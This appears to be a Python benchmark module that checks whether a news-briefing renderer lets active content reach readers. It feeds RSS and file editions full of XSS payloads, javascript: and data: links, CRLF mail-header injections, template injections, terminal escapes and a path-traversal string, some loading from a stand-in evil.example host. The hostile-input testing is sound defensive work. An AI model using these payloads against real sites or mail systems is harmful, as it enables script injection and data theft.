"""Nothing active reaches a reader: scripts, handlers, remote loads, headers and controls in every field of a feed."""

from __future__ import annotations

import random
import tempfile
from collections import Counter
from collections.abc import Iterator
from html import escape
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from benchmarks.hostile import Figure
from benchmarks.hostile.house import folder_of, made
from briefing.render import Renderer
from briefing.types import Edition, Message

NAME, PROMISE = "active content", 9

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt src=https://evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)></iframe>", "<body onload=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<form action=https://evil.example><input name=q></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css';</style>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>", "<object data=https://evil.example></object>", "<embed src=https://evil.example>", "<video poster=https://evil.example/p.png autoplay>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<img srcset='https://evil.example/p.png 1x'>", "<div style='background:url(https://evil.example/p.png)'>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e", "＜script＞alert(1)＜/script＞", "<<script>script>alert(1)<</script>/script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<portal src=https://evil.example>", "<img/src=`x`onerror=alert(1)>", "<isindex action=javascript:alert(1) type=image>",
    "[x](javascript:alert(1))", "![x](https://evil.example/p.png)", "<https://evil.example>", "[x]: https://evil.example", "`</code><script>alert(1)</script>`", "| a |\n|---|\n| <b> |",
    "{{ 7*7 }}{% for x in [] %}", "${7*7}", "\x1b[2J\x1b]0;owned\x07", "\r\nBcc: victim@evil.example\r\n\r\n<script>alert(1)</script>", "\u2028Bcc: victim@evil.example", "=?utf-8?q?=0d=0aBcc:_x?=",
    "\u202etxt.exe\u202c", "\ud800", "\x85Bcc: victim@evil.example", "../../../../etc/passwd",
)  # fmt: skip
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "\x01javascript:alert(1)", "java&#10;script:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd",
    "https://ok.example/\"onmouseover=alert(1)//", "https://ok.example/'><script>alert(1)</script>", "https://ok.example/)](javascript:alert(1))", "https://ok.example/ <x> ", "//evil.example", "blob:https://x",
    "https://ok.example/\r\nBcc: x@evil.example", "https://user:pass@evil.example/", "view-source:https://x.example",
)  # fmt: skip
_LIVE = frozenset({"script", "iframe", "object", "embed", "form", "input", "button", "link", "base", "svg", "math", "video", "audio", "img", "source", "portal", "frame", "applet", "template", "noscript", "textarea", "select", "marquee", "details", "isindex", "bgsound", "picture", "track"})  # fmt: skip
_LOADS = frozenset({"src", "srcset", "background", "poster", "data", "action", "formaction", "ping", "manifest", "dynsrc", "lowsrc", "longdesc", "cite", "xlink:href", "srcdoc", "profile", "codebase", "archive", "usemap", "classid", "icon"})  # fmt: skip


def live(page: str, known: Counter[str] | None = None) -> list[str]:
    """What in a page could act or load, as an HTML5 parser reads it. `known` counts what the page may have: its own style
    and meta elements."""
    import html5lib

    tree = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    found = []
    counts: Counter[str] = Counter()
    for element in tree.iter():
        tag = str(element.tag).rsplit("}", 1)[-1].lower() if isinstance(element.tag, str) else "comment"
        counts[tag] += 1
        if tag in _LIVE:
            found.append(f"<{tag}>")
        for raw, value in element.attrib.items():
            name = str(raw).rsplit("}", 1)[-1].lower()
            if name.startswith("on") or name in _LOADS:
                found.append(f"{tag} {name}={value[:40]}")
            if (
                name == "href"
                and urlsplit(value.strip()).scheme.lower() not in ("http", "https", "")
                and not value.startswith("#")
            ):
                found.append(f"{tag} href={value[:40]}")
            if name == "style" and (
                "url(" in value.lower() or "expression" in value.lower() or "@import" in value.lower()
            ):
                found.append(f"{tag} style={value[:40]}")
            if name == "http-equiv" and value.lower() == "refresh":
                found.append("refresh")
    if known is not None:
        found += [
            f"{counts[tag]} <{tag}>"
            for tag in ("style", "meta", "title", "html", "body", "head")
            if counts[tag] > known[tag]
        ]
    return found


def counted(page: str) -> Counter[str]:
    """How many of each element a page has."""
    import html5lib

    tree = html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)
    return Counter(str(element.tag).lower() for element in tree.iter() if isinstance(element.tag, str))


def feed(payloads: tuple[str, ...], links: tuple[str, ...]) -> str:
    """An RSS feed that carries each payload raw and escaped in every field, and each link."""
    entries = []
    for at, payload in enumerate(payloads):
        text, body = _xml(payload), _body(payload)
        entries.append(
            f"<item><title>{text} Story {at} of the bridge and its {at} arches</title><guid>{at}{text}</guid><link>https://ok.example/{at}?q={text}</link>"
            f"<author>{text}</author><dc:creator>{text}</dc:creator><category>{text}</category><pubDate>Wed, 11 Mar 2026 08:00:00 GMT</pubDate>"
            f"<description>{_xml(escape(payload))}</description><content:encoded>{_xml(f'<p>{payload} said the mayor of place {at}, who had counted {at} stones.</p>{body}')}</content:encoded></item>"
        )
    for at, link in enumerate(links):
        body = _body(link)
        entries.append(
            f"<item><title>Link {at} over the {at * 7} bridges</title><guid>l{at}</guid><link>{_xml(link)}</link><pubDate>Wed, 11 Mar 2026 08:00:00 GMT</pubDate>"
            f"<content:encoded>{_xml(f'<p>Bridge {at * 11} was opened on Tuesday by {at} people.</p>{body}')}</content:encoded></item>"
        )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Stranger</title>{"".join(entries)}</channel></rss>'
    )


_NOUNS = ["harbour", "mill", "ferry", "orchard", "quarry", "bakery", "tram", "school", "bridge", "forest", "museum", "canal", "airport", "theatre", "vineyard", "lighthouse", "prison", "library", "stadium", "observatory"]  # fmt: skip
_TOWNS = [
    "Aldmouth",
    "Dunholm",
    "Kelby",
    "Northam",
    "Dunmarrow",
    "Harrow",
    "Pell",
    "Arle",
    "Brannock",
    "Tarn",
    "Ellison",
    "Wenna",
    "Quill",
    "Lowick",
    "Stanmere",
    "Corby",
]
_DEEDS = [
    "opened",
    "closed",
    "flooded",
    "repaired",
    "sold",
    "painted",
    "inspected",
    "robbed",
    "praised",
    "moved",
    "rebuilt",
    "forgotten",
    "photographed",
    "insured",
    "measured",
]


def _told(seed: str, count: int = 4) -> list[str]:
    """Sentences of news that no other seed gives, so that no story is taken for another."""
    rng = random.Random(ascii(seed))  # a lone surrogate is no seed
    out = []
    for _ in range(count):
        nouns, towns, deeds = rng.sample(_NOUNS, 3), rng.sample(_TOWNS, 3), rng.sample(_DEEDS, 2)
        out.append(
            f"The {nouns[0]} of {towns[0]} was {deeds[0]} by {rng.randint(3, 9000)} people from {towns[1]}, and the {nouns[1]} near "
            f"the {nouns[2]} of {towns[2]} was {deeds[1]} on Tuesday, the council said."
        )
    return out


def _body(seed: str) -> str:
    return "".join(f"<p>{escape(text)}</p>" for text in _told(seed))


def _xml(text: str) -> str:
    kept = "".join(
        c
        for c in text
        if c in "\t\n\r" or (ord(c) >= 32 and not 0xD800 <= ord(c) <= 0xDFFF and ord(c) not in (0xFFFE, 0xFFFF))
    )
    return escape(kept)


def editions(payloads: tuple[str, ...], links: tuple[str, ...], place: Path) -> Iterator[Edition]:
    """The payloads by feed and by file (where even controls arrive), a few at a time: an edition has room for a dozen."""
    size = 8
    for at in range(0, len(payloads), size):
        some, chosen = payloads[at : at + size], links[at // 2 : at // 2 + 4]

        def by_feed(folder: Path, some: tuple[str, ...] = some, chosen: tuple[str, ...] = chosen) -> str:
            (folder / "feed.xml").write_bytes(feed(some, chosen).encode("utf-8", "replace"))
            return "feed, url: feed.xml"

        yield made(place / f"f{at}", by_feed)

        def by_file(folder: Path, some: tuple[str, ...] = some) -> str:
            records: list[Any] = [
                {
                    "id": payload, "title": f"{payload} number {k}", "author": payload, "url": f"https://ok.example/{payload}",
                    "text": f"{payload} The town of number {k * 13} built {k} bridges on Tuesday, the mayor said.\n\n" + "\n\n".join(_told(payload)),
                    "published": "2026-03-11", "language": payload[:8],
                }
                for k, payload in enumerate(some)
            ]  # fmt: skip
            folder_of(folder, "strange", records)
            return "file, path: strange"

        yield made(place / f"j{at}", by_file)


def measure(short: bool) -> Iterator[Figure]:
    """Editions full of payloads, as each format's own reader sees them."""
    from email import message_from_bytes

    from markdown_it import MarkdownIt

    from briefing.channels.mail import MailChannel
    from briefing.config import MailChannelConfig

    payloads = PAYLOADS[::4] if short else PAYLOADS
    found: dict[str, list[str]] = {form: [] for form in ("html", "mail", "archive", "Markdown", "header", "terminal")}
    stories = 0
    with tempfile.TemporaryDirectory() as name:
        place = Path(name)
        config = MailChannelConfig.model_validate(
            {"type": "mail", "host": "mail.example", "sender": "b@ok.example", "to": ["r@ok.example"]}
        )
        channel = MailChannel(config, place)
        renderer = Renderer()
        clean: dict[str, Counter[str]] = {}
        headers: set[str] = set()
        for edition in [_clean(place), *editions(payloads, LINKS, place)]:
            first = not clean
            stories += len(edition.summaries)
            bodies = {form: renderer.render(edition, form) for form in ("html", "mail", "mailtext", "txt", "md")}
            markdown = [
                MarkdownIt("commonmark", {"html": True}).render(bodies["md"]),
                MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(bodies["md"]),
            ]
            message = Message(
                id="<1@ok.example>", recipient="r@ok.example", subject=renderer.subject(edition) + "".join(str(s.title) for s in edition.summaries),
                day=edition.day, made=edition.made, briefing=edition.briefing, bodies=bodies,
            )  # fmt: skip
            raw = channel.mail(message).as_bytes()
            mail = message_from_bytes(raw)
            parts = [part.get_payload(decode=True) for part in mail.walk() if part.get_content_type() == "text/html"]
            sent = [part.decode("utf-8") for part in parts if isinstance(part, bytes)]
            if first:
                clean = {form: counted(bodies[form]) for form in ("html", "mail")}
                headers = {key.lower() for key in mail}
            found["html"] += live(bodies["html"], clean["html"])
            found["mail"] += [one for page in [bodies["mail"], *sent] for one in live(page, clean["mail"])]
            for page in markdown:
                found["Markdown"] += [one for one in live(page) if "href=file:" not in one]
            found["header"] += sorted({key.lower() for key in mail} - headers)
            found["terminal"] += [repr(c) for c in bodies["txt"] if not c.isprintable() and c != "\n"]
            if "Content-Security-Policy" not in bodies["html"]:
                found["html"].append("no content-security policy")
        found["archive"] += _archive(place, renderer, clean["html"])
    tried = f"{len(payloads)} payloads in every field, {stories} stories"
    for form, wrong in found.items():
        wrong = [one for one in wrong if "href=file:" not in one]
        seen = f"{len(wrong)}" + (f" ({'; '.join(dict.fromkeys(wrong[:6]))})" if wrong else "")
        yield Figure(
            f"live or remote in {form} ({tried})" if form == "html" else f"live or remote in {form}",
            seen,
            "0",
            not wrong,
        )


def _clean(place: Path) -> Edition:
    def nothing(folder: Path) -> str:
        folder_of(
            folder, "strange", [{"title": "Rain", "text": "It rained in Kelby on Monday, the weather office said."}]
        )
        return "file, path: strange"

    return made(place / "clean", nothing)


def _archive(place: Path, renderer: Renderer, known: Counter[str]) -> list[str]:
    """What is stored is rendered again."""
    from benchmarks.hostile.house import opened

    found = []
    for folder in sorted(place.glob("f*"))[:3]:
        with opened(folder, "feed, url: feed.xml") as app:
            found += live(renderer.render(app.find_edition("daily", None), "html"), known)
    return found
